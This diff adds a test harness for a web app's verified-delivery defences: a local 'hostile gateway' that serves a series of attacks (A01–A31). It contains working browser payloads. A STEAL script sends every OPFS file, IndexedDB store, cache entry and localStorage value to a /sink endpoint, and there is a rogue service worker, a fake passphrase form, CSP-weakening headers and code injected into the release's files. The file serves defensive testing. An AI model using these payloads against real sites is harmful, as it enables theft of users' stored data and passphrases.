@@ -1,0 +1,271 @@
+// The hostile gateway: serves a real release of the real page, and one attack at a time. Every request is kept; what the
+// attacker's code sends home arrives at /sink. Frames go on to a real gateway, so that people can be made and unlocked.
+// By hand: node tests/attacks/hostile.mjs --attack A02 --port 8600   (Enter switches the attack on and off)
+import { createServer } from 'node:http';
+import { connect } from 'node:net';
+import { makeLog, now, DAY_S } from './world.mjs';
+
+const TYPES = {
+  css: 'text/css', html: 'text/html', js: 'text/javascript', json: 'application/json', png: 'image/png', svg: 'image/svg+xml',
+  txt: 'text/plain', wasm: 'application/wasm', webmanifest: 'application/manifest+json',
+};
+export const typeOf = (path) => TYPES[path === '/' ? 'html' : path.split('.').pop()] ?? 'text/plain';
+const PLACE = '/.well-known/sotto/';
+
+/** What an honest gateway sends with everything (verified-delivery 3.2). */
+export function fixedHeaders(csp) {
+  return {
+    'content-security-policy': csp, 'integrity-policy': 'blocked-destinations=(script)', 'cross-origin-opener-policy': 'same-origin',
+    'cross-origin-resource-policy': 'same-origin', 'x-content-type-options': 'nosniff', 'referrer-policy': 'no-referrer',
+  };
+}
+
+async function listen(handler, port = 0) {
+  const server = createServer(handler);
+  await new Promise((done, fail) => {
+    server.once('error', fail);
+    server.listen(port, '127.0.0.1', done);
+  });
+  return server;
+}
+
+/** A WebSocket goes on to the real gateway, with names that it knows. */
+function forward(gateway, extra, request, socket, head) {
+  const { hostname, port, host } = new URL(gateway);
+  const up = connect(Number(port), hostname === 'localhost' ? '127.0.0.1' : hostname);
+  const lines = [`${request.method} ${request.url} HTTP/1.1`];
+  for (let i = 0; i < request.rawHeaders.length; i += 2) {
+    const name = request.rawHeaders[i];
+    const value = /^host$/i.test(name) ? host : /^origin$/i.test(name) ? 'null' : request.rawHeaders[i + 1];
+    lines.push(`${name}: ${value}`);
+  }
+  up.write(`${lines.join('\r\n')}\r\n\r\n`);
+  if (head.length > 0) up.write(head);
+  const added = extra();
+  if (added) {
+    // The 101 answer gets a header of the attacker's.
+    up.once('data', (first) => {
+      const text = first.toString('latin1');
+      const end = text.indexOf('\r\n');
+      socket.write(Buffer.from(`${text.slice(0, end)}\r\n${added}${text.slice(end)}`, 'latin1'));
+      up.pipe(socket);
+    });
+  } else {
+    up.pipe(socket);
+  }
+  socket.pipe(up);
+  for (const s of [socket, up]) {
+    s.on('error', () => { socket.destroy(); up.destroy(); });
+    s.on('close', () => { socket.destroy(); up.destroy(); });
+  }
+}
+
+/**
+ * `lies`: path to an answer { body, type, headers, status, bare }, or a function of the request that gives one, null for
+ * none of its own, or 'drop'. `bare`: without the headers that an honest answer has.
+ */
+export class Hostile {
+  constructor(world, gateway) {
+    Object.assign(this, { world, gateway, log: makeLog(world.keys), lies: new Map(), seen: [], sinks: [], down: false, extra: {}, on101: '', appSocket: false, held: new Map() });
+    this.notes = new Map();
+    this.release = null;
+  }
+
+  async start(port = 0) {
+    const handler = (request, response) => void this.answer(request, response).catch(() => response.destroy());
+    this.server = await listen(handler, port);
+    this.second = await listen(handler);
+    for (const s of [this.server, this.second]) {
+      s.on('upgrade', (request, socket, head) => {
+        this.seen.push({ path: '101', url: request.url, dest: 'websocket', app: s === this.server });
+        if (this.onSocket) return this.onSocket(request, socket);
+        forward(this.gateway, () => (s === this.server || !this.appSocket ? this.on101 : ''), request, socket, head);
+      });
+    }
+    this.origin = `http://localhost:${this.server.address().port}`;
+    this.gw = `http://localhost:${this.second.address().port}`;
+    return this;
+  }
+
+  async close() {
+    for (const s of [this.server, this.second]) {
+      s.closeAllConnections();
+      s.close();
+    }
+  }
+
+  /** Signed, logged, witnessed: `age` seconds ago for the first time, `seen` seconds ago for the last. */
+  publish(release, { age = 3 * DAY_S, seen = 60, note = this.world.sign(release.text), latest = true } = {}) {
+    const index = this.log.append(note);
+    const first = this.log.proof(index, { time: now() - age });
+    const made = { release, note, index, first, recent: this.log.proof(index, { time: now() - seen }) };
+    this.notes.set(release.seq, made);
+    if (latest) this.offer(made);
+    return made;
+  }
+
+  /** What `release/latest` and the files are from now on. */
+  offer(made) {
+    this.latest = made;
+    this.release = made.release;
+    this.notes.set(made.release.seq, made);
+  }
+
+  clear() {
+    Object.assign(this, { lies: new Map(), extra: {}, down: false, on101: '', onSocket: null });
+    for (const free of this.held.values()) free.open();
+    this.held.clear();
+    return this;
+  }
+
+  /** Requests for this path are answered only after `open()`. */
+  hold(path) {
+    let open;
+    const gate = new Promise((done) => { open = done; });
+    this.held.set(path, { gate, open });
+    return open;
+  }
+
+  asked(path, from = 0) {
+    return this.seen.slice(from).filter((s) => s.path === path).length;
+  }
+
+  async answer(request, response) {
+    const { pathname: path } = new URL(request.url, 'http://localhost');
+    const app = request.socket.localPort === this.server.address().port;
+    this.seen.push({ path, url: request.url, method: request.method, app, dest: request.headers['sec-fetch-dest'] ?? '', script: request.headers['service-worker'] ?? '', cookie: request.headers.cookie ?? '' });
+    if (path === '/sink') return this.sink(request, response);
+    if (this.down) return request.socket.destroy();
+    await this.held.get(path)?.gate;
+    const lie = this.lies.get(path);
+    const told = typeof lie === 'function' ? lie(request) : lie;
+    if (told === 'drop') return request.socket.destroy();
+    const found = told ?? this.honest(path);
+    const own = found.bare ? {} : fixedHeaders(this.release?.csp ?? "default-src 'none'");
+    const kept = path === '/sw.js' || /\.[0-9a-f]{12}\./.test(path) ? 'public, max-age=31536000, immutable, no-transform' : 'no-cache, no-transform';
+    response.writeHead(found.status ?? 200, { ...own, 'content-type': found.type ?? typeOf(path), 'cache-control': kept, ...this.extra, ...found.headers });
+    response.end(request.method === 'HEAD' ? undefined : found.body);
+  }
+
+  async sink(request, response) {
+    const parts = [];
+    for await (const part of request) parts.push(part);
+    this.sinks.push({ url: request.url, body: Buffer.concat(parts) });
+    response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
+  }
+
+  honest(path) {
+    const { release, latest } = this;
+    if (path === '/config.json') return { body: JSON.stringify({ gateway: this.appSocket ? this.origin : this.gw }), type: 'application/json' };
+    if (!release) return { status: 404, body: 'nothing\n', type: 'text/plain' };
+    if (path === `${PLACE}release/latest`) return { body: latest.note, type: 'text/plain' };
+    const [, kind, seq] = /^\/\.well-known\/sotto\/(release|proof|first)\/(\d+)$/.exec(path) ?? [];
+    const made = this.notes.get(Number(seq));
+    const text = made && { release: made.note, proof: made.recent, first: made.first }[kind];
+    if (text) return { body: text, type: 'text/plain' };
+    if (path === '/sw.js') return { body: release.loader, type: 'text/javascript' };
+    const body = release.files.get(path);
+    return body === undefined ? { status: 404, body: 'not here\n', type: 'text/plain' } : { body, type: typeOf(path) };
+  }
+
+  /** All that reached the sink, for a search. */
+  stolen() {
+    return Buffer.concat(this.sinks.flatMap((s) => [Buffer.from(decodeURIComponent(s.url)), s.body]));
+  }
+}
+
+/** The path of a file of the release by the start of its name. */
+export function part(release, name, ext = '') {
+  return [...release.files.keys()].find((p) => p.startsWith(`/${name}.`) && p.endsWith(ext));
+}
+
+// ---- what the attacker writes ----
+
+/** Sends home all that this origin keeps: every file, database, cache and local value. Runs in pages and workers. */
+export const STEAL = `
+async function steal(from) {
+  const send = (what, body) => fetch('/sink?' + new URLSearchParams({ from, what }), { method: 'POST', body });
+  const jobs = [send('alive', from)];
+  const folder = async (dir, name) => {
+    for await (const [n, h] of dir.entries()) {
+      if (h.kind === 'directory') await folder(h, name + '/' + n);
+      else await h.getFile().then((f) => f.arrayBuffer()).then((b) => send('file ' + name + '/' + n, b)).catch(() => send('busy ' + n, ''));
+    }
+  };
+  jobs.push(navigator.storage.getDirectory().then((d) => folder(d, '')).catch((e) => send('no-files', String(e))));
+  jobs.push((async () => {
+    for (const { name } of await indexedDB.databases()) {
+      const db = await new Promise((done, fail) => { const r = indexedDB.open(name); r.onsuccess = () => done(r.result); r.onerror = fail; });
+      for (const store of db.objectStoreNames) {
+        const all = await new Promise((done) => { const r = db.transaction(store).objectStore(store).getAll(); r.onsuccess = () => done(r.result); r.onerror = () => done([]); });
+        await send('db ' + name + ' ' + store, new Blob(all.map((v) => (v instanceof Blob || v instanceof ArrayBuffer || ArrayBuffer.isView(v) ? v : JSON.stringify(v)))));
+      }
+    }
+  })().catch(() => {}));
+  jobs.push((async () => {
+    for (const name of await caches.keys()) for (const q of await (await caches.open(name)).keys()) if (/note/.test(q.url)) await send('cache ' + q.url, await (await (await caches.open(name)).match(q)).text());
+  })().catch(() => {}));
+  if (self.localStorage) jobs.push(send('local', JSON.stringify({ ...localStorage })));
+  await Promise.all(jobs);
+  await send('done', '');
+}
+`;
+export const mark = (how) => `globalThis.marker = ${JSON.stringify(how)}; if (globalThis.document) document.documentElement.dataset.marker = ${JSON.stringify(how)};\n`;
+/** No policy at all, and nothing that would keep anything out. */
+export const LOOSE = { bare: true, headers: { 'content-security-policy': "default-src * 'unsafe-inline' 'unsafe-eval' data: blob:", 'cache-control': 'no-store', 'access-control-allow-origin': '*' } };
+const html = (body, more = {}) => ({ ...LOOSE, type: 'text/html', body: `<!doctype html><html><head><title>hostile</title></head><body>${body}</body></html>`, ...more });
+const script = (body, more = {}) => ({ ...LOOSE, type: 'text/javascript', body, ...more });
+const run = (how) => `<script>${mark(how)}${STEAL}steal(${JSON.stringify(how)})</script>`;
+const ROGUE = `${mark('rogue-worker')}${STEAL}
+const home = steal('rogue-worker');
+self.addEventListener('install', (e) => { self.skipWaiting(); e.waitUntil(home); });
+self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
+self.addEventListener('fetch', (e) => e.respondWith(new Response('<script>${mark('rogue-page').trim()}</' + 'script><title>rogue</title>', { headers: { 'content-type': 'text/html' } })));
+`;
+
+const PASSPHRASE_FORM = `<base href="/sink"><style>body { background: url(/sink?css) }</style><meta http-equiv="refresh" content="3;url=/refreshed">
+<h1>Sotto</h1><form action="/sink?form" method="post"><label>Passphrase <input name="passphrase" value=""></label><button id="unlock">Unlock</button></form>`;
+
+/** Each attack: what the gateway does from then on. `x` is what the case adds: { path, release, … }. */
+export const attacks = {
+  A01: (s) => s.lies.set('/', html(`<h1>hostile</h1>${run('inline')}<script src="/evil.js"></script>`)).set('/evil.js', script(mark('evil'))).set('/sw.js', script(ROGUE)),
+  A02: (s) => s.lies.set('/', html(`<h1>hostile</h1>${run('index')}`)),
+  A03: (s) => s.lies.set('/', { status: 302, body: '', headers: { location: `${s.gw}/sink?redirect` } }),
+  A04: (s, { path = '/' } = {}) => s.lies.set(path, { body: Buffer.concat([s.release.files.get(path), Buffer.from('\n')]), type: typeOf(path) }),
+  A05: (s) => s.lies.set('/attack', html(run('attack'))).set('/attack.js', script(mark('attack'))),
+  A06: (s) => s.lies.set('/sw.js', (q) => (q.headers['sec-fetch-dest'] === 'serviceworker' || q.headers['service-worker'] ? script(ROGUE) : null)),
+  A07: (s) => s.lies.set('/sw.js', script(ROGUE, { headers: { 'cache-control': 'public, max-age=31536000, immutable' } })),
+  A08: (s) => s.lies.set('/sw.js', script(ROGUE)),
+  A09: (s, { path = part(s.release, 'worker') } = {}) => s.lies.set(path, script(`${mark('worker')}${STEAL}steal('worker')`)),
+  A10: (s, { path = part(s.release, 'worker') } = {}) =>
+    s.lies.set(path, { type: 'text/javascript', body: Buffer.concat([Buffer.from("try { importScripts('/evil.js') } catch {} try { new Worker('/evil.js') } catch {} import('/evil.js').catch(() => 0);\n"), s.release.files.get(path)]) }).set('/evil.js', script(`${mark('import')}fetch('/sink?import')`)),
+  A11: (s) => s.lies.set('/frame', html(run('frame'))),
+  A12: (s) => s.lies.set('/', { ...html(PASSPHRASE_FORM), bare: true }).set('/refreshed', html('refreshed')),
+  A13: (s) => s.lies.set(part(s.release, 'app', 'js'), script(mark('wrong bytes'))).set('/evil.js', script(mark('evil'))),
+  A14: (s, { path = part(s.release, 'core', 'wasm') } = {}) => s.lies.set(path, { body: Buffer.concat([s.release.files.get(path).subarray(0, -1), Buffer.from([0x55])]), type: 'application/wasm' }),
+  A16: (s) => s.lies.set('/', (q) => ({ status: 302, body: '', headers: { location: `${s.gw}/caught?${new URLSearchParams({ was: q.url })}` } })).set('/caught', html(`<script>fetch('/sink?' + new URLSearchParams({ at: location.href }))</script>`)),
+  A17: (s) => s.lies.set('/', html('<script>navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then(() => { document.title = "planted" })</script>')).set('/sw.js', script(ROGUE)),
+  A18: (s, { csp = s.release.csp } = {}) => {
+    const second = "default-src * 'unsafe-inline'";
+    const how = {
+      two: [csp, second], comma: `${csp}, ${second}`, missing: [], none: csp.replace(/script-src [^;]*/, "script-src 'none' https:"), case: csp.replace('script-src', 'Script-Src'),
+    };
+    s.csp = (kind) => { s.extra = { 'content-security-policy': how[kind] }; };
+  },
+  A19: (s) => {
+    s.extra = { link: '</evil.js>; rel=modulepreload', refresh: `1; url=${s.gw}/sink?refresh`, 'speculation-rules': '"/rules.json"' };
+    s.lies.set('/rules.json', { body: '{"prefetch":[{"source":"list","urls":["/sink?speculated"]}]}', type: 'application/speculationrules+json' });
+  },
+  A25: (s, { where = '/config.json' } = {}) => s.lies.set(where, () => ({ ...s.honest(where), headers: { 'clear-site-data': '"storage"' } })),
+  A26: (s) => attacks.A02(s),
+  A28: (s) => s.lies.set('/', html(`<script>navigator.serviceWorker.register('/narrow.js', { scope: '/narrow/' }).then(() => { document.title = 'planted' })</script>`)).set('/narrow.js', script("self.addEventListener('install', () => self.skipWaiting()); self.addEventListener('fetch', () => {});", { headers: { 'service-worker-allowed': '/' } })),
+  A29: (s, { body = JSON.stringify({ gateway: `javascript:globalThis.marker='config'` }) } = {}) => s.lies.set('/config.json', { body, type: 'application/json' }),
+  A30: (s) => s.lies.set('/', (q) => (/victim=1/.test(q.headers.cookie ?? '') ? html(`<h1>hostile</h1>${run('targeted')}`) : null)),
+  A31: (s) => {
+    for (const path of s.release.files.keys()) {
+      const body = s.release.files.get(path).toString('latin1');
+      const rewritten = path === '/' ? body.replace('</body>', `<script>${mark('beacon')}fetch('/sink?beacon')</script></body>`) : /\.js$/.test(path) ? `${mark('beacon')}${body}` : /\.css$/.test(path) ? body.replaceAll('  ', ' ').concat(' ') : null;
+      if (rewritten !== null) s.lies.set(path, { body: Buffer.from(rewritten, 'latin1'), type: typeOf(path) });
+    }
+  },
+};
